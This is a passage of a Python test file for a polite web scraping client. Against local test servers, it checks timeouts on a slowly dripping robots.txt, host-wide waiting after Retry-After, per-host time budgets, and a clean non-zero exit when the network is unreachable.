    assert time.monotonic() - started < 5


def test_a_dripping_robots_txt_is_a_network_error_within_the_deadline(drip_server) -> None:
    import time

    from pipeline.scrape import FetchConfig, PoliteClient
    from pipeline.scrape.errors import FetchError

    drip_server.drip_robots = True
    config = FetchConfig(timeout=1.0, deadline=1.5, attempts=1, host_delay=0.0)
    started = time.monotonic()
    with PoliteClient(config) as client, pytest.raises(FetchError, match="network error"):
        client.get(drip_server.base + "/page")
    assert time.monotonic() - started < 5


def test_retry_after_holds_back_the_whole_host(drip_server) -> None:
    import threading
    import time

    from pipeline.scrape import FetchConfig, PoliteClient

    config = FetchConfig(timeout=2.0, attempts=2, host_delay=0.0, host_concurrency=2)
    with PoliteClient(config) as client:
        first = threading.Thread(target=client.get, args=(drip_server.base + "/wait",))
        first.start()
        deadline = time.monotonic() + 5
        while not any(p == "/wait" for p, _ in drip_server.hits) and time.monotonic() < deadline:
            time.sleep(0.05)
        time.sleep(0.3)  # the 429 has arrived
        client.get(drip_server.base + "/other")
        first.join(timeout=10)
    told = next(t for p, t in drip_server.hits if p == "/wait")
    other = next(t for p, t in drip_server.hits if p == "/other")
    assert other - told >= 1.5, "a request to the same host did not wait for Retry-After"


def test_host_budget_skips_the_rest_of_a_slow_host(drip_server) -> None:
    from pipeline.scrape import FetchConfig, PoliteClient
    from pipeline.scrape.errors import FetchError

    config = FetchConfig(timeout=1.0, deadline=1.0, attempts=1, host_delay=0.0, host_budget=0.5)
    with PoliteClient(config) as client:
        with pytest.raises(FetchError, match="in all"):
            client.get(drip_server.base + "/drip-body")
        with pytest.raises(FetchError, match="budget"):
            client.get(drip_server.base + "/page")


def test_offline_scrape_is_a_network_error_and_exits_non_zero(tmp_path: Path, capsys) -> None:
    """A site on a port nobody listens on stands for a machine without network."""
    import socket

    with socket.socket() as probe:  # a free port on 127.0.0.1, closed again
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    base = f"http://127.0.0.1:{port}"
    sites = tmp_path / "sites.toml"
    sites.write_text(
        f'[sites.offline]\nname = "Offline"\nhosts = ["127.0.0.1"]\nshort = "off"\n'
        f"article_url = '-(\\d{{6}})\\.html$'\nfeeds = [\"{base}/rss.xml\"]\n",
        encoding="utf-8",
    )
    argv = ["scrape", "--site", "offline", "--sites-file", str(sites), "--out", str(tmp_path / "o")]
    assert main([*argv, "--raw", str(tmp_path / "raw")]) == 1
    err = capsys.readouterr().err
    assert "network error: cannot reach" in err and "robots" not in err.lower(), err
